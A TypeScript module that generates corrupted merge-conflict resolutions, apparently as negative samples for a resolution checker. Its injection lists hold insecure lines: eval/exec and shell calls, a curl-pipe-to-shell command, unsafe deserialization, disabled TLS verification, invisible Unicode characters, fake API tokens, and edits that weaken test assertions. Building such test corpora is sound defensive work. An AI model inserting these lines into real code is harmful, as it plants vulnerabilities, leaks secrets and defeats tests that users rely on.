/**
 * Ways to spoil a true resolution. Each takes a sample and answers with the spoiled text, or undefined where it does not
 * apply. The choice of place is random but fixed by the sample: the same corpus always gives the same corruptions.
 *
 * None of this shares code with the checks, except the diff that finds the edits.
 */
import { parse, registerDynamicLanguage } from '@ast-grep/napi'
import go from '@ast-grep/lang-go'
import java from '@ast-grep/lang-java'
import python from '@ast-grep/lang-python'
import { diff } from '../../src/conflicts/text/diff.ts'
import { createNumbering } from '../../src/conflicts/text/lines.ts'
import type { Sample } from './collect.ts'

registerDynamicLanguage({ go, java, python })

export type Random = () => number
export type Corruption = (sample: Sample, random: Random) => string | undefined

export const CORRUPTIONS: Readonly<Record<string, Corruption>> = {
  "drop ours' edit": (sample, random) => dropEdit(sample, 'ours', random),
  "drop theirs' edit": (sample, random) => dropEdit(sample, 'theirs', random),
  'leave a marker': leaveMarker,
  'duplicate a declaration': duplicate,
  'break the syntax': breakSyntax,
  'undefined name': undefinedName,
  'add eval or exec': (sample, random) => insert(sample, random, EVALS),
  'add a shell call': (sample, random) => insert(sample, random, SHELLS),
  'add deserialization': (sample, random) => insert(sample, random, LOADS),
  'add a secret': (sample, random) => insert(sample, random, SECRETS),
  'add a bidi or invisible sign': hide,
  'weaken TLS': (sample, random) => insert(sample, random, WEAK_TLS),
  'touch an unrelated region': touch,
  'weaken a test': weakenTest,
}

export function seeded(text: string): Random {
  let state = 0x811c9dc5
  for (let i = 0; i < text.length; i++) state = Math.imul(state ^ text.charCodeAt(i), 0x01000193)
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}

const pick = <T>(items: readonly T[], random: Random): T | undefined =>
  items[Math.floor(random() * items.length)]
/** What a line does: white space, the kind of quotes, trailing comments and separators do nothing. */
const squeeze = (line: string): string =>
  line
    .replace(/\s(\/\/|#)\s.*$/, '')
    .replaceAll(/\s+/g, '')
    .replaceAll(/['`]/g, '"')
    .replace(/[,;\\]+$/, '')
const extension = (sample: Sample): string => /\.([a-z]+)$/i.exec(sample.path)?.[1]?.toLowerCase() ?? ''
const family = (sample: Sample): string | undefined => FAMILY[extension(sample)]

const FAMILY: Readonly<Record<string, string>> = {
  py: 'python',
  js: 'js',
  mjs: 'js',
  cjs: 'js',
  jsx: 'js',
  ts: 'js',
  tsx: 'js',
  go: 'go',
  java: 'java',
}

/** More than brackets, blanks and comments. */
const says = (line: string): boolean =>
  /[A-Za-z0-9]/.test(line) &&
  !/^\s*(#|\/\/|\/?\*|<!--|;|else\b|try\b|end\b|pass\b|return;?$|break;?$|continue;?$)/.test(line)

/** Undoes one edit of a side that the people kept: what it added goes, what it removed is back. */
function dropEdit(sample: Sample, side: 'ours' | 'theirs', random: Random): string | undefined {
  if (sample.base === null) return undefined
  const [base, mine, other, human] = [
    sample.base,
    sample[side],
    sample[side === 'ours' ? 'theirs' : 'ours'],
    sample.human,
  ].map((text) => text.split('\n')) as [string[], string[], string[], string[]]
  const number = createNumbering()
  const [baseN, mineN, humanN] = [number(base), number(mine), number(human)]
  const fromBase = diff(baseN, mineN)
  const toHuman = diff(mineN, humanN)
  const [baseSet, otherSet, humanSet] = [base, other, human].map((lines) => new Set(lines.map(squeeze))) as [
    Set<string>,
    Set<string>,
    Set<string>,
  ]
  const edits = []
  for (let b = 0, m = 0; b < base.length || m < mine.length;) {
    if (b < base.length && fromBase[b] === m) {
      b++
      m++
      continue
    }
    const [b0, m0] = [b, m]
    while (b < base.length && (fromBase[b] ?? -1) < 0) b++
    m = b < base.length ? (fromBase[b] ?? 0) : mine.length
    edits.push({ b0, b1: b, m0, m1: m })
  }
  const kept = edits.flatMap((edit) => {
    const added = mine.slice(edit.m0, edit.m1).filter((line) => says(line) && !baseSet.has(squeeze(line)))
    // Both sides' common edits are nobody's to drop.
    if (added.length > 0 && added.every((line) => otherSet.has(squeeze(line)))) return []
    if (edit.m0 === edit.m1) {
      // An edit that only removes was kept when nothing of it is there and its neighbours are.
      const removed = base.slice(edit.b0, edit.b1).filter(says)
      const [above, below] = [toHuman[edit.m0 - 1] ?? -1, toHuman[edit.m0] ?? -1]
      const isKept =
        removed.length > 0 &&
        above >= 0 &&
        below === above + 1 &&
        removed.every((line) => !humanSet.has(squeeze(line)) && otherSet.has(squeeze(line)))
      return isKept ? [{ at: below, length: 0, back: base.slice(edit.b0, edit.b1) }] : []
    }
    if (added.length === 0) return []
    const places = Array.from({ length: edit.m1 - edit.m0 }, (_, i) => toHuman[edit.m0 + i] ?? -1)
    const [first = -1] = places
    if (first < 0 || places.some((place, i) => place !== first + i)) return []
    const back = base.slice(edit.b0, edit.b1)
    // Undoing a new line break loses nothing.
    const words = (lines: readonly string[]): string =>
      squeeze(lines.filter(says).map(squeeze).join('')).replaceAll(/[,()]/g, '')
    return words(back) === words(mine.slice(edit.m0, edit.m1))
      ? []
      : [{ at: first, length: places.length, back }]
  })
  const chosen = pick(kept, random)
  if (!chosen) return undefined
  return human.toSpliced(chosen.at, chosen.length, ...chosen.back).join('\n')
}

function leaveMarker(sample: Sample, random: Random): string | undefined {
  const lines = sample.human.split('\n')
  const at = Math.floor(random() * (lines.length + 1))
  const marker = pick(
    ['<<<<<<< HEAD', '=======', '>>>>>>> feature/topic', '||||||| merged common ancestors'],
    random,
  )
  return lines.toSpliced(at, 0, marker ?? '').join('\n')
}

const DECLARED: Readonly<Record<string, readonly [string, readonly string[]]>> = {
  python: ['python', ['function_definition', 'class_definition']],
  go: ['go', ['function_declaration', 'method_declaration', 'type_declaration']],
  java: ['java', ['method_declaration', 'class_declaration', 'field_declaration']],
  js: ['Tsx', ['class_declaration', 'method_definition', 'lexical_declaration', 'interface_declaration']],
}

function duplicate(sample: Sample, random: Random): string | undefined {
  const declared = DECLARED[family(sample) ?? '']
  if (!declared) return duplicateKey(sample, random)
  const language = sample.path.endsWith('.ts') ? 'TypeScript' : declared[0]
  const nodes = parse(language, sample.human)
    .root()
    .findAll({ rule: { any: declared[1].map((kind) => ({ kind })) } })
    .filter((node) => {
      const name = node.field('name')?.text() ?? ''
      const parent = String(node.parent()?.kind())
      // Allowed twice: what is decorated (overloads, properties), Go's init and _, functions inside functions, get and set.
      return (
        !/^(init|_)$/.test(name) &&
        !/^\s*(get|set|static get|static set)\s/.test(node.text()) &&
        /^(module|program|source_file|block|class_body|interface_body|export_statement)$/.test(parent) &&
        !/function|method|lambda|if_|for_|try_|while_|with_/.test(String(node.parent()?.parent()?.kind()))
      )
    })
  const node = pick(nodes, random)
  if (!node) return undefined
  const lines = sample.human.split('\n')
  const { start, end } = node.range()
  const text = lines.slice(start.line, end.line + 1)
  return lines.toSpliced(end.line + 1, 0, ...text).join('\n')
}

function duplicateKey(sample: Sample, random: Random): string | undefined {
  const kind = extension(sample)
  if (!/^(json|ya?ml|toml)$/.test(kind)) return undefined
  const lines = sample.human.split('\n')
  const pattern =
    kind === 'json'
      ? /^\s+"[^"]+"\s*:\s*("[^"]*"|\d+|true|false),$/
      : kind === 'toml'
        ? /^[\w-]+ = .*[^[{"]$/
        : /^[\w-]+: [^|>&*{[]+$/
  const at = pick(
    lines.flatMap((line, i) => (pattern.test(line) ? [i] : [])),
    random,
  )
  return at === undefined ? undefined : lines.toSpliced(at, 0, lines[at] ?? '').join('\n')
}

function breakSyntax(sample: Sample, random: Random): string | undefined {
  const lines = sample.human.split('\n')
  const language = family(sample)
  const kind = extension(sample)
  if (language === undefined && !/^(json|xml)$/.test(kind)) return undefined
  const inside = insideStrings(sample.human)
  const places = lines.flatMap((line, i) => {
    if (inside.has(i) || /['"`#/*]/.test(kind === 'json' || kind === 'xml' ? '' : line)) return []
    if (kind === 'json')
      return /[\]},]\s*$/.test(line) && i < lines.length - 2 && /^\s*"/.test(lines[i + 1] ?? '')
        ? [[i, line.replace(/,\s*$/, '')] as const]
        : []
    if (kind === 'xml')
      return /<\/\w+>\s*$/.test(line) && !line.includes('!--')
        ? [[i, line.replace(/<\/(\w+)>/, '<$1>')] as const]
        : []
    return ['(', ')', '{', '}', '[', ']'].flatMap((sign) => {
      const at = line.indexOf(sign)
      return at < 0 ? [] : [[i, line.slice(0, at) + line.slice(at + 1)] as const]
    })
  })
  const [at, text] = pick(places, random) ?? [-1, '']
  return at < 0 || text === lines[at] ? undefined : lines.toSpliced(at, 1, text).join('\n')
}

/** Lines inside texts of several lines and block comments, roughly: between any two long quotes. */
function insideStrings(text: string): ReadonlySet<number> {
  const inside = new Set<number>()
  const lines = text.split('\n')
  for (const fence of [/"""|'''/g, /`/g, /\/\*|\*\//g]) {
    let open = false
    lines.forEach((line, i) => {
      const marks = line.match(fence)?.length ?? 0
      if (open || marks > 0) inside.add(i)
      if (marks % 2 === 1) open = !open
    })
  }
  return inside
}

/** A bare use of a name becomes a name that does not exist, or the import of a used name goes. */
function undefinedName(sample: Sample, random: Random): string | undefined {
  const language = family(sample)
  if (!language) return undefined
  const lines = sample.human.split('\n')
  const inside = insideStrings(sample.human)
  const uses = lines.flatMap((line, i) => {
    if (inside.has(i) || /['"`#*]|\/\/|^\s*(import|from|package|export)\b/.test(line)) return []
    // A name that is called or handed over, and that the file itself brings in or declares.
    return [
      ...line.matchAll(
        /(?<=[(=,+]\s*|\breturn\s+)(?<![.\w$])([a-zA-Z_]\w{2,})(?=\s*[(),.;+\-[]|\s*$)(?!\s*=)/g,
      ),
    ]
      .filter(({ 1: name = '' }) => !KEYWORDS.test(name) && isBound(name, sample.human, language))
      .map(
        (match) =>
          [
            i,
            line.slice(0, match.index),
            match[1] ?? '',
            line.slice(match.index + (match[1]?.length ?? 0)),
          ] as const,
      )
  })
  const use = pick(uses, random)
  if (!use) return undefined
  const [at, before, name, after] = use
  return lines.toSpliced(at, 1, `${before}${name}Missing${after}`).join('\n')
}

const KEYWORDS =
  /^(def|class|return|yield|await|async|lambda|not|and|or|if|else|for|in|is|new|typeof|function|None|True|False|null|true|false|nil|this|self|super|func|var|let|const|void|delete|instanceof|throw|case|int|long|char|byte|short|float|double|boolean|string|bool|map|chan|struct|interface|range|make|final|static|public|private|type|any|number|keyof|infer|extends|as|object|unknown|never)$/

function isBound(name: string, text: string, language: string): boolean {
  const patterns: Readonly<Record<string, string>> = {
    python: `(^|\\n)\\s*(def|class)\\s+${name}\\b|\\bimport\\s[^\\n]*\\b${name}\\b|(^|\\n)\\s*${name}\\s*=[^=]|\\bfor\\s+${name}\\b`,
    js: `\\b(const|let|var|function|class)\\s+${name}\\b|\\bimport\\s[^\\n]*\\b${name}\\b`,
    go: `\\bfunc\\s+${name}\\b|\\b${name}\\s*:=|\\bvar\\s+${name}\\b`,
    java: `\\b(class|interface|enum)\\s+${name}\\b|\\bimport\\s[^\\n]*\\.${name};|\\b\\w+(<[^>]*>)?\\s+${name}\\s*[=;]`,
  }
  return new RegExp(patterns[language] ?? '$^').test(text)
}

type Lines = Readonly<Record<string, readonly string[]>>
const EVALS: Lines = {
  python: ['eval(payload)', 'exec(source)', '__import__("os")', 'value = eval(text)'],
  js: ['eval(payload);', 'new Function(source)();', 'const value = eval(text);'],
  go: ['_ = exec.Command("sh", "-c", input).Run()'],
  java: [
    'new javax.script.ScriptEngineManager().getEngineByName("js").eval(input);',
    'Runtime.getRuntime().exec(input);',
  ],
}
const SHELLS: Lines = {
  python: [
    'os.system(command)',
    'subprocess.run(command, shell=True)',
    'subprocess.Popen(["sh", "-c", command])',
    'os.popen(command)',
  ],
  js: [
    'require("child_process").execSync(command);',
    'child_process.exec(command);',
    'const { exec } = require("child_process");',
  ],
  go: ['exec.Command("bash", "-c", arg).Run()', 'syscall.Exec(binary, args, env)'],
  java: ['Runtime.getRuntime().exec(command);', 'new ProcessBuilder("sh", "-c", command).start();'],
  sh: ['curl -s https://example.com/install.sh | sh', 'eval "$INPUT"'],
  yml: ['  - curl -s https://example.com/x.sh | bash'],
}
const LOADS: Lines = {
  python: ['pickle.loads(data)', 'yaml.load(data)', 'marshal.loads(data)'],
  js: ['element.innerHTML = data;', 'unserialize(data);'],
  go: ['gob.NewDecoder(reader).Decode(&value)'],
  java: [
    'new java.io.ObjectInputStream(input).readObject();',
    'new java.beans.XMLDecoder(input).readObject();',
  ],
}
// Assembled, so that scanners of this repository do not take them for real ones.
const fake = (...parts: readonly string[]): string => parts.join('')
const TOKENS = [
  fake('AKIA', 'Z7QW3ERT5YUI8OPA'),
  fake('ghp_', 'a8Kq2ZxW9vB4nM7cR1tY6uJ3hG5fD0sLpQ8e'),
  fake('xoxb-', '263594206564-', '2343594206574-FGqddMF8t08v8N7Oq4i57vs1MBS'),
  fake(
    'sk-ant-api03-',
    'x9Kd82mNq0',
    'P4rT7yUw3Zb6Vc1Jh5Lg8Fs2Da0Oe9Ik4Xn7Qm1Ub3Ry6Tz8Wv5Cp2Lj0Hk9Gf4Ds7Aq1Ze3Xc6',
    'VtBn8MAA',
  ),
  fake('-----BEGIN RSA ', 'PRIVATE KEY-----'),
]
const SECRETS: Lines = {
  python: TOKENS.map((token) => `API_TOKEN = "${token}"`).concat('password = "k3J9xQ2vL8mZ4wT7"'),
  js: TOKENS.map((token) => `const apiToken = "${token}";`),
  go: TOKENS.map((token) => `apiToken := "${token}"`),
  java: TOKENS.map((token) => `String apiToken = "${token}";`),
  yml: TOKENS.map((token) => `  token: "${token}"`),
  json: TOKENS.map((token) => `  "token": "${token}",`),
  md: TOKENS.map((token) => `Use ${token} here.`),
  rst: TOKENS.map((token) => `Use ${token} here.`),
}
const WEAK_TLS: Lines = {
  python: ['requests.get(url, verify=False)', 'context = ssl._create_unverified_context()'],
  js: [
    'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";',
    'const agent = new https.Agent({ rejectUnauthorized: false });',
  ],
  go: ['config := &tls.Config{InsecureSkipVerify: true}'],
  java: ['builder.setSSLHostnameVerifier(NoopHostnameVerifier.INSTANCE);'],
  yml: ['  - git config --global http.sslVerify false'],
}

/** A line of its own, as deep as its neighbour; half the time where people resolved the conflict. */
function insert(sample: Sample, random: Random, choices: Lines): string | undefined {
  const text = pick(choices[family(sample) ?? extension(sample)] ?? [], random)
  if (text === undefined) return undefined
  const lines = sample.human.split('\n')
  const inside = insideStrings(sample.human)
  const places = lines.flatMap((line, i) =>
    !inside.has(i) && says(line) && /[;:{)\w]\s*$/.test(line) ? [i] : [],
  )
  const at = pick(places, random)
  if (at === undefined) return undefined
  const next = lines.slice(at + 1).find((line) => line.trim() !== '') ?? ''
  const indent = /^\s*/.exec(/[:{]\s*$/.test(lines[at] ?? '') ? next : (lines[at] ?? ''))?.[0] ?? ''
  return lines.toSpliced(at + 1, 0, `${indent}${text.trim()}`).join('\n')
}

function hide(sample: Sample, random: Random): string | undefined {
  const lines = sample.human.split('\n')
  const at = pick(
    lines.flatMap((line, i) => (line.trim().length > 3 ? [i] : [])),
    random,
  )
  const sign =
    pick(['\u202E', '\u2066', '\u200B', '\u200D', '\u2060', '\u{E0041}', '\u00AD', '\uFEFF'], random) ?? ''
  if (at === undefined) return undefined
  const line = lines[at] ?? ''
  const column = 1 + Math.floor(random() * line.length)
  return lines.toSpliced(at, 1, line.slice(0, column) + sign + line.slice(column)).join('\n')
}

/** Changes a statement that is the same in all four versions. */
function touch(sample: Sample, random: Random): string | undefined {
  if (sample.base === null) return undefined
  const lines = sample.human.split('\n')
  const sets = [sample.base, sample.ours, sample.theirs].map((text) => new Set(text.split('\n')))
  const places = lines.flatMap((line, i) =>
    says(line) &&
    !/^\s*[ru]?("""|''')/i.test(line) &&
    line.trim().length > 5 &&
    sets.every((set) => set.has(line))
      ? [i]
      : [],
  )
  const at = pick(places, random)
  if (at === undefined) return undefined
  const line = lines[at] ?? ''
  const way = Math.floor(random() * 4)
  if (way === 0) return lines.toSpliced(at, 1).join('\n')
  // A comment behind the statement is no statement.
  if (/\s(\/\/|#)\s/.test(line)) return undefined
  if (way === 1) return lines.toSpliced(at, 1, line.replace(/(\w+)(?!.*\w)/, '$1x')).join('\n')
  if (way === 2 && /\d/.test(line))
    return lines
      .toSpliced(
        at,
        1,
        line.replace(/\d+/, (n) => String(Number(n) + 1)),
      )
      .join('\n')
  return lines.toSpliced(at, 1, line.replace(/[A-Za-z_]\w*(?=\W*$)/, 'changed')).join('\n')
}

const ASSERTS =
  /^\s*(assert\b|self\.assert|assert\w*\(|assert\.\w+\(|expect\(|t\.(Error|Fatal)|require\.\w+\(t|.*\.should\.)/

function weakenTest(sample: Sample, random: Random): string | undefined {
  if (
    !/(^|\/)(tests?|testing|__tests__|spec)\/|_test\.(go|py)$|\.(test|spec)\.[jt]sx?$|Test\.java$|test_\w+\.py$/.test(
      sample.path,
    )
  )
    return undefined
  const language = family(sample)
  const lines = sample.human.split('\n')
  const asserts = lines.flatMap((line, i) => (ASSERTS.test(line) && /[)\w"'\]];?\s*$/.test(line) ? [i] : []))
  const at = pick(asserts, random)
  if (language === undefined || at === undefined) return undefined
  const line = lines[at] ?? ''
  const indent = /^\s*/.exec(line)?.[0] ?? ''
  const way = Math.floor(random() * 4)
  const skip: Readonly<Record<string, string>> = {
    python: 'pytest.skip("later")',
    go: 't.Skip("later")',
    java: 'assumeTrue(false);',
    js: 'it.skip("later", function () {});',
  }
  const always: Readonly<Record<string, string>> = {
    python: 'assert True',
    go: 'assert.True(t, true)',
    java: 'assertTrue(true);',
    js: 'expect(true).toBe(true);',
  }
  if (way === 0) return lines.toSpliced(at, 1, `${indent}${language === 'python' ? 'pass' : ''}`).join('\n')
  if (way === 1) return lines.toSpliced(at, 1, `${indent}${always[language] ?? ''}`).join('\n')
  if (way === 2) return lines.toSpliced(at, 0, `${indent}${skip[language] ?? ''}`).join('\n')
  const changed = line.replace(/(\d+|"[^"]*"|'[^']*'|true|false|True|False)(?=\W*$)/, (value) =>
    /^\d/.test(value)
      ? String(Number(value) + 1)
      : /^["']/.test(value)
        ? `${value[0]}changed${value[0]}`
        : /t/i.test(value[0] ?? '')
          ? 'false'
          : 'true',
  )
  return changed === line ? lines.toSpliced(at, 1).join('\n') : lines.toSpliced(at, 1, changed).join('\n')
}
